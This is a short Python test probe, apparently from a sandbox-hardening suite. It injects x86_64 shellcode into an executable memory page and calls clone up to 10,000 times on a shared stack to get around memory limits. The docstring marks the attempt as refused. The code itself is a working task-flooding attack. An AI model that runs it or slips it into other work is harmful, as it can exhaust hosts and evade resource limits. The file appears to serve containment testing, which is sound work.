"""Starts 10,000 tasks that share one stack, so that no limit on memory binds them.

Fate: refused.
"""

from attack_tools import native


def solve() -> bool:
    native(
        """
import mmap
# x86_64: poll(NULL, 0, -1) for ever, without touching the stack
wait = bytes.fromhex("b80700000031ff31f648c7c2ffffffff0f05ebec")
if column == 2:  # ppoll(NULL, 0, NULL, NULL)
    code = (0xD2800000, 0xD2800001, 0xD2800002, 0xD2800003, 0xD2800928, 0xD4000001, 0x17FFFFFA)
    wait = struct.pack("7I", *code)
page = mmap.mmap(-1, 4096, prot=7)
start = ctypes.addressof(ctypes.c_char.from_buffer(page))
page[:len(wait)] = wait
page[2048:2056] = struct.pack("Q", start)  # where libc's syscall returns to (x86_64)
if column == 2:
    raise PermissionError("libc returns by a register here")
made = 0
try:
    for made in range(10_000):
        call("clone", 0x3D0F00, start + 2048, start + 3072, start + 3072, start + 3584)
except BlockingIOError:
    pass
if made < 100:
    raise PermissionError(f"{made} tasks")
"""
    )
    return True
